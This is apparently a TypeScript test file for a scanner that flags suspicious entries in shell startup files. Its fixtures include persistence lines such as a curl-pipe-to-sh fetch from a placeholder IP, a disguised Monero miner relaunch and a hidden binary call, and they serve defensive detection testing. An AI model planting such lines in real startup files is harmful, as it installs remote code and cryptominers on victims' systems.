import assert from 'node:assert/strict'
import { testKind } from '../../test/kinds.ts'
import { shellUnits } from '../parse/files/shell-units.ts'
import { shellRc } from './shell-rc.ts'

testKind(shellRc, {
  tree: {
    '/root/.bashrc': "# .bashrc\nalias rm='rm -i'\nif [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\ncurl -s http://192.0.2.1/a | sh &\n",
    '/root/.profile': 'if ! pidof kswapd0 >/dev/null; then\n  /root/moneroocean/miner.sh &\nfi\n',
    '/etc/skel/.bashrc': 'f() {\n  alias a=b\n}\nfunction g {\n  export A=1\n}\n/usr/lib/.n\n',
    '/home/a/.zshrc': "PROMPT='%~ '\ncat <<X | sh\nevil\nX\nbindkey -e\ntrap '/x' EXIT\n",
  },
  lists: [
    '/root/.bashrc:6 curl -s http://192.0.2.1/a | sh &',
    '/root/.profile:1 if ! pidof kswapd0 >/dev/null; then\n  /root/moneroocean/miner.sh &\nfi',
    '/home/a/.zshrc:2 cat <<X | sh',
    '/etc/skel/.bashrc:7 /usr/lib/.n',
  ],
  also: entries =>
    assert.deepEqual(
      entries.map(e => e.user),
      ['root', 'root', 'a', ''],
    ),
  sound: bytes => [...shellUnits(bytes)].every(unit => unit.closed),
})
